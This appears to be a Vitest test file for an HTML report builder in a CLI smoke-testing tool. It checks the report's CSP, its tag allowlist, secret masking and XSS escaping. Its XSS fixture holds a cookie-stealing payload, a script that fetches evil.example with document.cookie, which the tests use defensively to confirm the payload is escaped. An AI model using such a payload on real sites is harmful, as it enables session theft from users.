/**
 * core/smoke/html.ts: the self-contained report. Structural checks on the page (no fetchable reference of any kind,
 * CSP, every step with its verdict, diagram and trace) and XSS safety with a hostile error message and step name.
 */
import { describe, expect, it } from 'vitest';
import { htmlReport, type HtmlRun } from '../../src/core/smoke/html.js';
import type { StepResult } from '../../src/core/smoke/results.js';
import { parseMermaid, type SequenceDiagram } from '../../src/core/diagram/sequence.js';
import { parseXml, type XmlElement } from '../fixtures/xml.js';

const XSS = `<img src=x onerror=alert(1)><script>fetch('https://evil.example/'+document.cookie)</script>"'\``;
const SECRET = 'hunter2-super-secret-value';

function step(p: Partial<StepResult> & { id: string }): StepResult {
  return {
    name: p.id,
    kind: 'invoke',
    line: 3,
    status: 'pass',
    argv: ['invoke', 'agent', '--json'],
    secretArgs: [],
    startMs: 0,
    durationMs: 12,
    stdout: '',
    stderr: '',
    checks: [{ label: 'allow', ok: true }],
    ...p,
  };
}

const diagram: SequenceDiagram = {
  participants: [
    { id: 'cli', label: 'agentcore-auth' },
    { id: 'runtime', label: 'AgentCore Runtime' },
  ],
  events: [
    { kind: 'message', from: 'cli', to: 'runtime', lines: ['InvokeAgentRuntime · SigV4'], line: 'solid', end: 'arrow' },
    { kind: 'message', from: 'runtime', to: 'cli', lines: ['403 AccessDeniedException'], line: 'dotted', end: 'cross' },
    { kind: 'note', placement: 'over', over: ['cli', 'runtime'], lines: [`refused: ${XSS}`] },
  ],
};

const runs: HtmlRun[] = [
  {
    summary: {
      scenario: `inbound ${XSS}`,
      file: 'inbound.yaml',
      passed: 1,
      failed: 1,
      errored: 0,
      skipped: 1,
      total: 3,
      durationMs: 345,
      exitCode: 6,
      results: [],
    },
    steps: [
      {
        result: step({ id: 'ok-step', argv: ['invoke', 'agent', '--bearer-token', SECRET, '--json'], secretArgs: [3] }),
        diagram,
        trace:
          `→ POST http://127.0.0.1/runtimes/x/invocations\n    authorization: Bearer eyJhbG…[812 ` +
          `chars]\n← 200 (5 ms)`,
      },
      {
        result: step({
          id: 'bad',
          name: `wrong mode ${XSS}`,
          status: 'fail',
          reason: `expected allow, got deny: ${XSS}`,
          checks: [{ label: 'allow', ok: false, actual: `deny (403) ${XSS}` }],
          error: { code: 'ERR_AUTH', message: `Authorization method mismatch ${XSS} ${SECRET}`, hint: `hint ${XSS}` },
          exitCode: 4,
          httpStatus: 403,
        }),
        diagram,
        trace: `\u001b[31m← 403\u001b[0m ${XSS} ${SECRET}`,
      },
      { result: step({ id: 'later', status: 'skipped', reason: 'an earlier step failed', checks: [] }) },
    ],
  },
];

const html = htmlReport(runs, {
  scrub: (t) => t.split(SECRET).join('hunt…[26 chars]'),
  timestamp: new Date('2026-01-02T03:04:05Z'),
  exitCode: 6,
  durationMs: 400,
  version: '0.1.0',
});

/** Every inline <svg>…</svg> of the page, parsed as XML. */
function svgs(page: string): XmlElement[] {
  return [...page.matchAll(/<svg[\s\S]*?<\/svg>/g)].map((m) => parseXml(m[0]));
}

describe('smoke --html report', () => {
  it('fetches nothing: no script, no external reference, a CSP that forbids everything but inline style', () => {
    expect(html).toMatch(/^<!doctype html>/);
    expect(html).toContain(
      `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'; ` +
        `base-uri 'none'; form-action 'none'">`,
    );
    expect(html).not.toMatch(/@import|url\(/i);
    // Every tag of the page is one the builder writes; none has src, on…, or an href leaving the page.
    const allowed = new Set(
      (
        'html head meta title style body main header h1 h2 h3 p span table thead tbody tr th td a section pre ul ' +
        'li strong details summary figure figcaption svg rect line text path polygon polyline'
      ).split(' '),
    );
    const tags = [...html.matchAll(/<([a-zA-Z][\w-]*)((?:\s[^>]*)?)>/g)];
    expect(tags.length).toBeGreaterThan(50);
    for (const [, name, attrs] of tags) {
      expect(allowed.has(name!.toLowerCase()), name).toBe(true);
      expect(attrs).not.toMatch(/\s(src|on[a-z]+|srcset|action|formaction|xlink:href)=/i);
    }
    // The only absolute URL is the SVG namespace (an identifier, never fetched).
    const urls = [...html.matchAll(/(?:https?:)?\/\/[\w.-]+\.[a-z]{2,}[^\s"'<]*/gi)]
      .map((m) => m[0])
      .filter((u) => !u.startsWith('//evil') && !u.includes('evil.example'));
    expect(new Set(urls)).toEqual(new Set(['http://www.w3.org/2000/svg']));
    // In-page anchors only.
    for (const m of html.matchAll(/href="([^"]*)"/g)) expect(m[1]).toMatch(/^#step-\d+-\d+$/);
  });

  it('renders hostile text as text: no tag or attribute from it survives', () => {
    expect(html).not.toContain('<img src=x');
    expect(html).not.toContain('onerror=alert(1)>');
    expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;&lt;script&gt;');
    expect(html).not.toMatch(/\son[a-z]+=(?!alert)/i);
    // No terminal escape reaches the page.
    expect(html).not.toContain('\u001b');
  });

  it('masks secrets everywhere (command line, error, trace)', () => {
    expect(html).not.toContain(SECRET);
    expect(html).toContain('hunt…[26 chars]');
  });

  it('has the summary, every step with its verdict, and the failing step opened', () => {
    expect(html).toContain('expectations failed (exit 6)');
    expect(html).toContain('1 passed, 1 failed, 0 could not run, 1 skipped of 3 steps');
    for (const id of ['ok-step', 'bad', 'later'])
      expect(html).toMatch(new RegExp(`<section class="step s-(pass|fail|skipped)" id="step-1-\\d">\\n<h3>.*${id}`));
    expect(html).toMatch(/<section class="step s-fail" id="step-1-2">[\s\S]*?<details open><summary>trace/);
    expect(html).toMatch(/<section class="step s-pass" id="step-1-1">[\s\S]*?<details><summary>trace/);
    expect(html).toContain('exit 4 · HTTP 403');
    expect(html).toContain('<p class="hint">hint: ');
  });

  it('inlines one SVG per step with a diagram, with the arrows and the Mermaid source that parses back', () => {
    const figures = svgs(html);
    expect(figures).toHaveLength(2);
    for (const svg of figures) {
      expect(svg.name).toBe('svg');
      const texts: string[] = [];
      const walk = (e: XmlElement) => {
        if (e.name === 'text') texts.push(e.text);
        e.children.forEach(walk);
      };
      walk(svg);
      expect(texts).toEqual(
        expect.arrayContaining([
          'agentcore-auth',
          'AgentCore Runtime',
          'InvokeAgentRuntime · SigV4',
          '403 AccessDeniedException',
          `refused: ${XSS}`,
        ]),
      );
    }
    const sources = [...html.matchAll(/<summary>Mermaid source<\/summary><pre>([\s\S]*?)<\/pre>/g)].map((m) =>
      m[1]!.replace(
        /&(lt|gt|amp|quot|#39|#96);/g,
        (_, e: string) => ({ lt: '<', gt: '>', amp: '&', quot: '"', '#39': "'", '#96': '`' })[e]!,
      ),
    );
    expect(sources).toHaveLength(2);
    expect(parseMermaid(sources[0]!)).toEqual(diagram);
  });
});
